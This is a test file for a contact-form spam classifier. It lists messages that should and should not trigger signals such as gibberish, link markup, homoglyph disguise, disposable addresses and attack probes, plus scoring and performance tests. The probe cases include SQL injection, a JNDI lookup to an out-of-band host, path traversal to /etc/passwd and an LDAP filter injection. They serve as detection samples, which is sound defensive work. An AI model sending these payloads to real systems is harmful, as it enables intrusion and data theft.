import fc from "fast-check";
import { describe, expect, test } from "vitest";
import type { FieldPairs } from "#lib/core/fields/fields";
import {
  type FormPast,
  type JudgedMessage,
  judge,
  type WorkspacePast,
} from "#lib/domain/spam/judge";
import { isMovable, isSuspected, pointsOf, type SignalCode } from "#lib/domain/spam/signals";
import { anyText } from "#tests/support/factories/any-text";

const FORM: FormPast = { count: 200, usualLinks: 0, scripts: new Set(["Latin"]) };
const sameTimes = (elsewhere: number, here: number) => ({
  countSame: () => ({ elsewhere, here }),
});
const WORKSPACE: WorkspacePast = {
  ...sameTimes(0, 0),
  isDisposable: (domain) => domain === "mailinator.com",
};

const message = (
  fields: Record<string, string>,
  more: Partial<JudgedMessage> = {},
): JudgedMessage => ({
  fields: Object.entries(fields) satisfies FieldPairs,
  name: fields.name ?? null,
  email: fields.email ?? null,
  chosen: new Set(),
  filledInMs: null,
  challenge: null,
  ...more,
});

const GOOD = { name: "Ada Lovelace", email: "ada@example.com", message: "Do you open on Sunday?" };

const LONG = { ...GOOD, message: "Do you open on Sunday, and can we come with two dogs?" };

type Case = [
  code: SignalCode,
  title: string,
  given: JudgedMessage,
  past?: { form?: Partial<FormPast>; workspace?: Partial<WorkspacePast> },
];

const signalsOf = (given: JudgedMessage, past: Case[3] = {}) =>
  judge(given, { ...FORM, ...past.form }, { ...WORKSPACE, ...past.workspace }).signals;
const codesOf = (given: JudgedMessage, past: Case[3] = {}) =>
  signalsOf(given, past).map(({ code }) => code);

const COUNTS: Case[] = [
  [
    "gibberish",
    "random letters in two fields",
    message({ name: "xKqZtRvbWp", message: "QmTzRkLpWvXbYh" }),
  ],
  [
    "gibberish",
    "small random letters",
    message({ name: "qxjvzwkpt", message: "zqxvwjkhtb pvxqzjwf" }),
  ],
  ["probe", "SQL", message({ ...GOOD, name: "1' OR '1'='1" })],
  ["probe", "a look-up", message({ ...GOOD, message: "${" + "jndi:ldap://x.oast.fun/a}" })],
  ["probe", "a path", message({ ...GOOD, message: "../../../../etc/passwd" })],
  ["burst", "the same text to two forms", message(LONG), { workspace: sameTimes(1, 0) }],
  ["burst", "the same text three times", message(LONG), { workspace: sameTimes(0, 2) }],
  ["markup", "a forum's link", message({ ...GOOD, message: "[url=https://a.example]a[/url]" })],
  [
    "markup",
    "a page's link",
    message({ ...GOOD, message: 'see <a href="https://a.example">a</a>' }),
  ],
  ["echo", "the name as the message", message({ ...GOOD, message: "ada lovelace" })],
  [
    "disguise",
    "Latin words with Cyrillic letters",
    message({ ...GOOD, message: "Ѕех dаting fоr аdults, jоin nоw" }),
  ],
  ["host", "a shortened link", message({ ...GOOD, message: "see https://bit.ly/3xKq9Lz" })],
  ["host", "a site that costs nothing", message({ ...GOOD, message: "best-loans.top is open" })],
  ["host", "a messenger", message({ ...GOOD, message: "write on telegram @fast_loans" })],
  [
    "promo",
    "a page of the sender's own with a percentage",
    message({ ...GOOD, email: "ada@yield.io", message: "Get 18% a year: https://yield.io/join" }),
  ],
  [
    "promo",
    "a page for one recipient under a composed name",
    message({
      ...GOOD,
      email: "info@domain-renewal-info.com",
      message: "Pay here: https://domain-renewal-info.com/pay/20914",
    }),
  ],
  [
    "sites",
    "little but links to three sites",
    message({
      ...GOOD,
      message:
        "https://a-shop.example/outlet-1 https://b-shop.com/outlet-2 https://c-shop.net/outlet-3",
    }),
  ],
  [
    "handle",
    "the address as a name",
    message({ ...GOOD, name: "Robertsab", email: "robertsab@example.com" }),
  ],
  ["echo", "the name, several times", message({ ...GOOD, name: "Hi", message: "Hi Hi hi" })],
  [
    "gibberish",
    "random letters in one field beside random dots",
    message({ name: "NcWzLpTqVrKd", email: "u.zi.qo.b.o@gmail.com" }),
  ],
  ["probe", "a directory's query", message({ ...GOOD, message: "*)(uid=*))(|(uid=*" })],
  ["links", "more links than usual", message({ ...GOOD, message: "https://a.example" })],
  ["script", "another script", message({ ...GOOD, message: "Здравствуйте, есть вопрос" })],
  ["disposable", "a disposable address", message({ ...GOOD, email: "x@mailinator.com" })],
  ["dotted", "a dotted Gmail address", message({ ...GOOD, email: "a.b.c.d.e@gmail.com" })],
  ["fast", "a form filled in at once", message(GOOD, { filledInMs: 900 })],
  ["challenge", "a failed challenge", message(GOOD, { challenge: "failed" })],
];

test.each(COUNTS)("%s counts: %s", (code, _, given, past) => {
  expect(codesOf(given, past)).toContain(code);
});

const INNOCENT: Case[] = [
  ["gibberish", "one random field, such as a key", message({ ...GOOD, key: "QmTzRkLpWvXbYh" })],
  [
    "gibberish",
    "names and compounds",
    message({ name: "Grzegorz Brzęczyszczykiewicz", message: "Angstschweiß und Rechtschreibung" }),
  ],
  ["gibberish", "codes with digits", message({ serial: "XKQ29B7ZRT4", order: "QZ-88231-KXW" })],
  [
    "probe",
    "a question about SQL",
    message({ ...GOOD, message: "Which is better, select or update?" }),
  ],
  ["burst", "the same text twice to one form", message(LONG), { workspace: sameTimes(0, 1) }],
  ["markup", "a price in brackets", message({ ...GOOD, message: "[urgent] <3 your shop" })],
  ["echo", "a form that asks for an address alone", message({ email: GOOD.email })],
  [
    "links",
    "as many links as usual",
    message({ ...GOOD, message: "https://a.example" }),
    { form: { usualLinks: 1 } },
  ],
  ["links", "an email address", message({ ...GOOD, message: "write to me@shop.example" })],
  [
    "script",
    "a young form",
    message({ ...GOOD, message: "Здравствуйте, есть вопрос" }),
    { form: { count: 49 } },
  ],
  ["script", "a name in another script", message({ ...GOOD, name: "Ада" })],
  [
    "disguise",
    "a word with a letter of another keyboard",
    message({ ...GOOD, message: "Повернiть кошти, будь ласка" }),
  ],
  [
    "host",
    "the sender's own home page",
    message({ ...GOOD, email: "ada@shop.store", message: "We are https://shop.store" }),
  ],
  [
    "host",
    "a quoted link",
    message({ ...GOOD, message: "I got “Win now! https://prize.top/x” from you" }),
  ],
  [
    "host",
    "a shared file",
    message({ ...GOOD, message: "My CV: https://drive.google.com/file/d/1a/view" }),
  ],
  [
    "promo",
    "a document on the sender's own site",
    message({
      ...GOOD,
      email: "ada@pumps.com",
      message: "40 % off this? https://pumps.com/2026/list.pdf",
    }),
  ],
  [
    "promo",
    "the sender's own page and nothing else",
    message({ ...GOOD, email: "ada@pumps.com", message: "See https://pumps.com/flanges" }),
  ],
  [
    "sites",
    "three sites that someone likes",
    message({
      ...GOOD,
      message:
        "We need a new website for our bakery, and like how these look: https://a-shop.com, https://b-shop.com, and https://c-shop.com. What would that cost?",
    }),
  ],
  ["handle", "a first name", message({ ...GOOD, name: "Kevin", email: "kevin@example.com" })],
  ["echo", "the company's name", message({ ...GOOD, company: "Lovelace" })],
  [
    "probe",
    "code of a bug report",
    message({ ...GOOD, message: 'if (a == "") || (b == "") fails with {"$gt": 5}' }),
  ],
  ["dotted", "three dots", message({ ...GOOD, email: "a.b.c.d@gmail.com" })],
  ["fast", "an unknown time", message(GOOD)],
  ["fast", "two seconds", message(GOOD, { filledInMs: 2_000 })],
];

test.each(INNOCENT)("%s doesn't count: %s", (code, _, given, past) => {
  expect(codesOf(given, past)).not.toContain(code);
});

describe("points", () => {
  const weak = message(
    { ...GOOD, email: "a.b.c.d.e@mailinator.com" },
    { filledInMs: 1, challenge: "failed" },
  );

  test("weak signals never make two together", () => {
    const signals = signalsOf(weak);
    expect(signals.length).toBeGreaterThan(2);
    expect(pointsOf(signals)).toBe(1);
    expect(isSuspected(signals)).toBe(false);
  });

  test("a weak signal and a link make a message suspected, a link in code moves it", () => {
    const linked = { ...GOOD, email: "x@mailinator.com", message: "https://a.example" };
    expect(isSuspected(signalsOf(message(linked)))).toBe(true);
    expect(isMovable(signalsOf(message(linked)))).toBe(false);
    const coded = { ...linked, message: "[url=https://a.example]" };
    expect(isMovable(signalsOf(message(coded)))).toBe(true);
    const pasted = { ...GOOD, message: 'Why is <a href="https://a.example">this</a> not shown?' };
    expect(isSuspected(signalsOf(message(pasted)))).toBe(true);
    expect(isMovable(signalsOf(message(pasted)))).toBe(false);
  });

  test("a passed challenge takes one point away, and never makes less than none", () => {
    const echo = { ...GOOD, message: GOOD.name };
    expect(pointsOf(signalsOf(message(echo, { challenge: "passed" })))).toBe(1);
    expect(pointsOf(signalsOf(message(GOOD, { challenge: "passed" })))).toBe(0);
  });

  test("the strongest signal comes first", () => {
    const signals = signalsOf(
      message({
        ...GOOD,
        message: "[url=https://a.example] https://b.example https://c.example ../../etc/passwd",
      }),
    );
    expect(signals.map(({ points }) => points)).toEqual([3, 2, 1]);
  });
});

describe("the digest of a message", () => {
  const digestOf = (fields: Record<string, string>, chosen: string[] = []) =>
    judge(message(fields, { chosen: new Set(chosen) }), FORM, WORKSPACE).traits.digest;

  test("is that of what was written, whoever says to have sent it, in any case and spacing", () => {
    const one = digestOf(LONG);
    expect(one).toMatch(/^[\w-]{12}$/);
    const message = `  ${LONG.message.toUpperCase().replaceAll(" ", "  ")}`;
    expect(digestOf({ name: "Bob", email: "bob@example.org", message })).toBe(one);
    expect(digestOf({ ...LONG, message: LONG.message.replace("two", "no") })).not.toBe(one);
  });

  test("leaves out what many messages of a form have: choices and consent", () => {
    const consent = "I agree that my data is stored as the privacy policy says.";
    expect(digestOf({ ...GOOD, consent })).toBeNull();
    expect(digestOf({ ...GOOD, datenschutz: consent })).toBeNull();
    expect(digestOf({ ...GOOD, plan: consent })).not.toBeNull();
    expect(digestOf({ ...GOOD, plan: consent }, ["plan"])).toBeNull();
  });
});

test("any message gets a verdict, and what follows 8,000 characters isn't looked at", () => {
  const value = fc.oneof(
    anyText({ maxLength: 300 }),
    fc.array(fc.string({ maxLength: 50 }), { maxLength: 5 }),
  );
  const fields = fc.array(fc.tuple(fc.string({ maxLength: 20 }), value), { maxLength: 12 });
  const sender = fc.option(fc.string({ maxLength: 60 }));
  fc.assert(
    fc.property(fields, sender, sender, (given, name, email) => {
      const judged = { ...message({}), fields: given, name, email };
      for (const { points } of signalsOf(judged)) expect([1, 2, 3]).toContain(points);
    }),
  );
  const padding = Object.fromEntries(
    Array.from({ length: 5 }, (_, n) => [`text ${n}`, "word ".repeat(400)]),
  );
  expect(codesOf(message({ ...padding, last: "../../../etc/passwd" }))).toEqual([]);
});

const HOSTILE: Record<string, string> = {
  "one letter": "a".repeat(8_000),
  dots: "a.".repeat(4_000),
  hyphens: "a-".repeat(4_000),
  links: "https://a.top/1 ".repeat(500),
  "open quotes": "„".repeat(8_000),
  "two quotes": `"a`.repeat(4_000),
  brackets: "<a ".repeat(2_600),
  "opened look-ups": "${".repeat(4_000),
  "lines of one letter": "a\n\n".repeat(2_600),
  emoji: "🎰".repeat(4_000),
  "mixed letters": "aа".repeat(4_000),
  "hidden letters": "a\u200b".repeat(4_000),
  currency: "$ ".repeat(4_000),
  "accents to compose": "é".normalize("NFD").repeat(4_000),
  Han: "我想预订".repeat(2_000),
};

function msOf(work: () => unknown): number {
  const startedAt = performance.now();
  work();
  return performance.now() - startedAt;
}

/** 8,000 characters, as much as the judge reads. Finding each letter takes 0.11 ms where 2 ms was measured. */
const PLAIN = "Grüße aus Köln 2026! ".repeat(381);
const AT_MOST = 2 / 0.11;

test.each(Object.entries(HOSTILE))("judging takes 2 ms at most: %s", (_, text) => {
  const hostile = { name: text.slice(0, 200), email: "a.b.c.d.e@a-b-c.example", message: text };
  const fields: FieldPairs = [...Object.entries(hostile), ["more", text], ["other", text]];
  const given = { ...message(hostile), fields };
  // In turns, since a busy machine is slow at both. After 200, the compiler knows the code.
  const times = Array.from({ length: 200 }, () => ({
    ms: msOf(() => judge(given, FORM, WORKSPACE)),
    unitMs: msOf(() => PLAIN.match(/\p{L}/gu)),
  }));
  const shortest = (name: "ms" | "unitMs") => Math.min(...times.map((time) => time[name]));
  expect(shortest("ms") / shortest("unitMs")).toBeLessThan(AT_MOST);
});
